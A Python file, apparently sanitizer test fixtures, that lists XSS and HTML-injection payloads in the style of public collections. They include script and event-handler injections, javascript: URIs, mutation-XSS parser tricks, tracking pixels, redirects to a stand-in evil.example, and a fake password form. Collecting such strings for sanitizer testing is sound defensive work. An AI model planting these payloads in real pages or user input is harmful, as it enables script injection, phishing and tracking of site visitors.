"""HTML that tries to run, to load, or to cover the page, in the styles of public XSS collections."""

from __future__ import annotations

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:a' onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='http://track.example/o.gif'>",
    "<img src='//track.example/o.gif'>",
    "<img src='https://track.example/o.gif' srcset='https://track.example/2x 2x'>",
    "<table background='http://track.example/b.png'><tr><td>x</td></tr></table>",
    "<body background='http://track.example/b.png'>",
    "<div style='background:url(http://track.example/b.png)'>x</div>",
    "<div style='background-image:url(http://track.example/b.png)'>x</div>",
    "<div style='color:red;position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'http://track.example/a.css';</style>",
    "<link rel=stylesheet href='http://track.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://evil.example/x.swf'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<form action='http://evil.example'><input name=password><button>ok</button></form>",
    "<video src='http://track.example/v.mp4' autoplay></video>",
    "<audio src='http://track.example/v.mp3' autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p id='x' class='y' name='z' onclick='a()'>x</p>",
    "<a href='http://ok.example' target='_self' rel='opener'>x</a>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x`onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
]  # fmt: skip

EVENTS = (
    "load error click mouseover focus blur toggle start animationstart transitionend pointerenter wheel scroll copy "
    "paste drag beforeinput hashchange message pageshow"
)
CARRIERS = ("img src=x", "body", "div style='animation-name:x'", "svg", "video src=x", "input autofocus")

ATTACKS += [f"<{carrier} on{event}=alert(1)>" for event in EVENTS.split() for carrier in CARRIERS]
